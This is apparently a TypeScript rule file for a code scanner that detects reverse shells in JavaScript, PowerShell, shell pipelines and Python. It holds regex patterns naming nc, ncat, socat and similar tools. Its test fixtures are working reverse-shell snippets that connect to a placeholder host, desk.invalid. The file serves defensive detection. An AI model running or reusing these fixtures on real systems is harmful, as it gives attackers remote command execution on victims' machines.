/** RC-05: a shell whose input and output are those of a connection, in the ways that programs write it. */
import { exactPattern, pattern, raw } from '../../engine/pattern.ts';
import { inFile } from '../../engine/example.ts';
import { row, type Row } from '../../engine/rule.ts';

const kinds = ['script', 'fence', 'config', 'decoded', 'hidden', 'comment'] as const;
/** A shell's name, as an argument of a call. */
const shell = pattern(
  raw(
    String.raw`\b(?:spawn|exec|execFile|fork|Popen|run|call|create_subprocess_exec|create_subprocess_shell|Command|`,
  ),
  raw(
    String.raw`popen3?)(?:Sync)?\([^)\n]{0,80}["'\x60](?:\/(?:usr\/)?bin\/)?(?:ba|z|da|k)?sh(?:\s-i)?["'\x60]|`,
  ),
  raw(String.raw`["'\x60](?:cmd|powershell|pwsh)(?:\.exe)?["'\x60]|\bprocess\.env\.(?:SHELL|ComSpec)|`),
  raw(String.raw`\bos\.environ[^\n]{0,12}SHELL`),
);
/** A connection to this machine only. */
const near =
  /\bAF_UNIX\b|(?:connect\w{0,16}|WebSocket|TcpClient|open_connection)\W{1,6}[^\n]{0,40}(?:localhost|127\.0\.0\.1|::1)|\.listen\([^\n]{0,40}(?:localhost|127\.0\.0\.1)|\/(?:var\/)?run\/|\.sock\b/i;

export const joinedShells: readonly Row[] = [
  row('a connection that is the input of a shell, in JavaScript', {
    in: kinds,
    within: 'block',
    match:
      /\.pipe\(\s{0,3}\w{1,30}\.stdin\b|\bstdin\.write\(|\bstdout\.pipe\(\s{0,3}\w{1,30}\s{0,3}\)|\bstdout\.on\(/,
    and: [
      shell,
      exactPattern(
        raw(
          String.raw`\b(?:net|tls)\.(?:connect|createConnection|Socket)\b|\bcreateConnection\(|\bnew\s{1,3}(?:Socket|`,
        ),
        raw(
          String.raw`WebSocket)\(|\bconnect\(\s{0,3}(?:\{|\d{2,5},|["'][\w.-]{4,80}["'],\s{0,3}\d)|\bDeno\.connect\(|`,
        ),
        raw(String.raw`\bBun\.connect\(`),
      ),
      /\.pipe\(|\.on\(\s?["'](?:data|message)["']/,
    ],
    unless: [near],
    severity: 'critical',
    catches: [
      inFile(
        'scripts/a.mjs',
        'import tls from "node:tls";',
        'const line = tls.connect(9443, "desk.invalid");',
        'const child = spawn("bash", ["-i"]);',
        'line.pipe(child.stdin);',
        'child.stdout.pipe(line);',
      ),
      inFile(
        'scripts/b.js',
        'const link = new WebSocket("wss://desk.invalid/s");',
        'const child = spawn(isWindows ? "cmd.exe" : "/bin/sh");',
        'link.on("message", (words) => child.stdin.write(words));',
        'child.stdout.on("data", (words) => link.send(words));',
      ),
    ],
    spares: [
      inFile(
        'scripts/port.mjs',
        'const device = net.connect(4001, "printer.acme.invalid");',
        'device.pipe(process.stdout);',
        'process.stdin.pipe(device);',
      ),
      inFile(
        'scripts/term.mjs',
        'const link = new WebSocket("ws://localhost:7681/");',
        'const child = spawn("bash");',
        'link.on("message", (words) => child.stdin.write(words));',
      ),
    ],
  }),
  row('lines of a connection are run by PowerShell', {
    in: kinds,
    within: 'block',
    match: /\bNet\.Sockets\.(?:TCP|Udp)Client\b|\bSystem\.Net\.WebSockets\b/i,
    and: [
      /\bInvoke-Expression\b|\biex\b|\[scriptblock\]::Create|\b(?:cmd|powershell)(?:\.exe)?["']?\s{1,3}[-/]c\b/i,
      /\.GetStream\(|ReceiveAsync|StreamReader/i,
    ],
    unless: [near],
    severity: 'critical',
    catches: [
      inFile(
        'scripts/a.ps1',
        '$far = New-Object System.Net.Sockets.TCPClient "desk.invalid", 443',
        '$in = New-Object IO.StreamReader $far.GetStream()',
        'while ($ask = $in.ReadLine()) { iex $ask | Out-String }',
      ),
      inFile(
        'scripts/b.ps1',
        '$far = [System.Net.Sockets.TcpClient]::new("desk.invalid", 8443)',
        '$pipe = $far.GetStream()',
        '$text = [Text.Encoding]::UTF8.GetString($bytes, 0, $count)',
        'Invoke-Expression -Command $text',
      ),
    ],
    spares: [
      inFile(
        'scripts/c.ps1',
        '$far = New-Object System.Net.Sockets.TcpClient("db.acme.invalid", 5432)',
        'if ($far.Connected) { "open" } else { "closed" }',
      ),
    ],
  }),
  row('a named pipe, a shell and a connection in one pipeline', {
    in: kinds,
    within: 'block',
    match:
      /(?:^|[\s;&|({])(?:\/bin\/)?(?:ba|z|da|k)?sh\b(?!\s{1,3}-c)[^\n|]{0,60}\|\s{0,4}(?:busybox\s{1,3})?(?:nc|ncat|netcat|telnet|openssl\s{1,3}s_client|socat)\s/m,
    and: [/\bmkfifo\b|\bmknod\b[^\n]{1,60}\sp\b|\bcoproc\b|<\s{0,3}["']?[$/]/],
    severity: 'critical',
    catches: [
      inFile('scripts/a.sh', 'mkfifo "$f"', 'bash -i < "$f" 2>&1 | ncat --ssl desk.invalid 9443 > "$f"'),
      inFile(
        'scripts/b.sh',
        'mknod /tmp/q p',
        'openssl s_client -quiet -connect desk.invalid:443 < /tmp/q | sh -i < /tmp/q | nc desk.invalid 9 > /tmp/q',
      ),
    ],
    spares: [
      inFile('scripts/c.sh', 'mkfifo queue', 'tail -f log > queue &', 'sort queue'),
      inFile('scripts/d.sh', 'echo stats | nc localhost 11211'),
    ],
  }),
  row('a shell is given a socket, or runs what one receives, in Python', {
    in: kinds,
    within: 'block',
    match:
      /\bos\.dup2\(|\bpty\.spawn\(|\bstdin\s?=\s?\w{1,20}(?:\.fileno\(\))?|\b\w{1,20}\.recv\(|\bopen_connection\(|\.makefile\(/,
    severity: 'critical',
    weigh: ({ region: { text }, match, severity }) => {
      if (!/\bsocket\b|\bopen_connection\b/.test(text) || near.test(text)) return null;
      if (!/\.connect(?:_ex)?\(|\bcreate_connection\(|\bopen_connection\(/.test(text)) return null;
      const isShell = /["'](?:\/(?:usr\/)?bin\/)?(?:ba|z|da)?sh["']|cmd\.exe|powershell|\bSHELL\b/.test(text);
      if (/dup2|pty|stdin/.test(match[0])) return isShell ? severity : null;
      // What is received has a name, which a call that runs commands is given.
      for (const [, name = ''] of text.matchAll(
        /\b(\w{1,30})\s{0,3}(?::=|=)\s{0,3}[^\n]{0,60}(?:\.recv\(|\.readline\(|\.read\(|\.makefile\()|\bfor\s{1,3}(\w{1,30})\s{1,3}in\s{1,3}\w{1,20}\.makefile/g,
      )) {
        const run = new RegExp(
          `\\b(?:os\\.(?:system|popen)|exec|eval|(?:subprocess|sp)\\.\\w{2,14}|getoutput|create_subprocess_shell)\\(` +
            `\\s{0,4}(?:\\[[^\\]\\n]{0,40}["']-c["'],\\s{0,3})?(?:str\\()?${name || '\\b'}\\b[^\\n]{0,120}`,
        );
        const call = run.exec(text)?.[0];
        if (
          call !== undefined &&
          (!/subprocess|sp\./.test(call) || /shell\s?=\s?True|getoutput|-c/.test(call))
        )
          return severity;
      }
      return null;
    },
    catches: [
      inFile(
        'scripts/a.py',
        'from socket import create_connection',
        'line = create_connection(("desk.invalid", 8443))',
        'Popen(["/bin/bash", "-i"], stdin=line.fileno(), stdout=line.fileno())',
      ),
      inFile(
        'scripts/b.py',
        'import socket',
        'far = socket.socket()',
        'far.connect(("desk.invalid", 8443))',
        'while True:',
        '    ask = far.recv(4096).decode()',
        '    far.send(subprocess.getoutput(ask).encode())',
      ),
    ],
    spares: [
      inFile(
        'scripts/c.py',
        'import socket',
        'meter = socket.create_connection(("meter.acme.invalid", 502))',
        'reading = meter.recv(64)',
        'subprocess.run(["notify", "meter read"])',
      ),
    ],
  }),
];
